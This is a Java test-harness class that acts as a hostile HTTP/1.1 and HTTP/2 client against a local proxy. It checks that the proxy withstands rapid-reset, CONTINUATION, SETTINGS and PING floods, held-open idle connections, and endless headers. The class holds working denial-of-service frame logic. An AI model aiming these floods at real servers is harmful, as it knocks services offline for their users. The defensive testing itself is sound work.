package dev.fairlead.app.conformance;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

/**
 * A hostile client, run in a process of its own: {@code PORT ABUSE COUNT}. It prints how often its
 * connections were ended, then waits for its input to close so that what it holds stays held.
 */
final class Attacker {
  private static final byte[] PREFACE =
      concat("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII), frame(4, 0, 0, ""));
  // HPACK: GET (or POST) / over http, and the authority "a".
  private static final String GET = "828684410161";
  private static final String POST = "838684410161";
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  private final int port;
  private final int count;
  private int ended;

  private Attacker(int port, int count) {
    this.port = port;
    this.count = count;
  }

  /** What it does to one connection, message after message. */
  private interface Message {
    byte[] bytes(int number);
  }

  public static void main(String[] arguments) throws IOException {
    var attacker = new Attacker(Integer.parseInt(arguments[0]), Integer.parseInt(arguments[2]));
    List<Socket> held = attacker.abuse(arguments[1]);
    System.out.println("done " + attacker.ended);
    while (System.in.read() >= 0) {
      // Holds on.
    }
    for (Socket socket : held) {
      socket.close();
    }
  }

  private List<Socket> abuse(String kind) throws IOException {
    switch (kind) {
      case "idle" -> {
        return idle();
      }
      case "abort" -> abort();
      case "endless-header" -> endlessHeaders();
      case "rapid-reset" ->
          flood(PREFACE, i -> concat(request(i, GET, END_STREAM), frame(3, 0, id(i), "00000008")));
      case "made-you-reset" ->
          flood(PREFACE, i -> concat(request(i, POST, 0), frame(8, 0, id(i), "00000000")));
      case "continuation" ->
          flood(
              PREFACE,
              i -> i == 0 ? frame(1, 0, 1, GET) : frame(9, 0, 1, "00013f" + "0161".repeat(8)));
      case "settings" -> flood(PREFACE, _ -> frame(4, 0, 0, "000400010000"));
      case "ping" -> flood(PREFACE, _ -> frame(6, 0, 0, "0000000000000000"));
      default -> throw new IllegalArgumentException(kind);
    }
    return List.of();
  }

  private List<Socket> idle() throws IOException {
    List<Socket> held = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      var socket = new Socket(InetAddress.getLoopbackAddress(), port);
      socket
          .getOutputStream()
          .write("GET /bytes/1 HTTP/1.1\r\nHost: a.example\r\n\r\n".getBytes(US_ASCII));
      if (socket.getInputStream().read() < 0) {
        ended++;
      }
      held.add(socket);
    }
    return held;
  }

  /** Asks for much and leaves in the middle, by reset and by close. */
  private void abort() throws IOException {
    for (int i = 0; i < count; i++) {
      try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        socket
            .getOutputStream()
            .write("GET /bytes/100000000 HTTP/1.1\r\nHost: a.example\r\n\r\n".getBytes(US_ASCII));
        socket.getInputStream().readNBytes(10_000);
        if (i % 2 == 0) {
          socket.setSoLinger(true, 0);
        }
        ended++;
      }
    }
  }

  /** Sends {@code count} messages; a connection that is ended is replaced. */
  private void flood(byte[] opening, Message message) {
    for (int sent = 0; sent < count; ) {
      try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        Thread.ofVirtual().start(() -> drain(socket));
        OutputStream out = socket.getOutputStream();
        out.write(opening);
        for (int i = 0; sent < count; i++, sent++) {
          out.write(message.bytes(i));
        }
      } catch (IOException e) {
        ended++;
        sent++;
      }
    }
  }

  /** Heads that never end; the proxy must say its last word though the head does not end. */
  private void endlessHeaders() throws IOException {
    for (int sent = 0; sent < count; sent += 100) {
      try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        socket.setSoTimeout(10_000);
        socket.getOutputStream().write(line());
        for (int i = 0; i < 100; i++) {
          socket.getOutputStream().write(filler());
        }
        socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        ended++;
      } catch (SocketTimeoutException e) {
        throw new IOException("an endless head is not refused", e);
      } catch (IOException e) {
        ended++;
      }
    }
  }

  private static void drain(Socket socket) {
    try {
      socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    } catch (IOException e) {
      // The writer notices.
    }
  }

  private static byte[] line() {
    return "GET / HTTP/1.1\r\nHost: a.example\r\nX: ".getBytes(US_ASCII);
  }

  private static byte[] filler() {
    return "x".repeat(1000).getBytes(US_ASCII);
  }

  private static int id(int number) {
    return 2 * number + 1;
  }

  private static byte[] request(int number, String head, int flags) {
    return frame(1, END_HEADERS | flags, id(number), head);
  }

  private static byte[] frame(int type, int flags, int stream, String payload) {
    String head = "%06x%02x%02x%08x".formatted(payload.length() / 2, type, flags, stream);
    return HexFormat.of().parseHex(head + payload);
  }

  private static byte[] concat(byte[] first, byte[] second) {
    var both = new ByteArrayOutputStream();
    both.writeBytes(first);
    both.writeBytes(second);
    return both.toByteArray();
  }
}
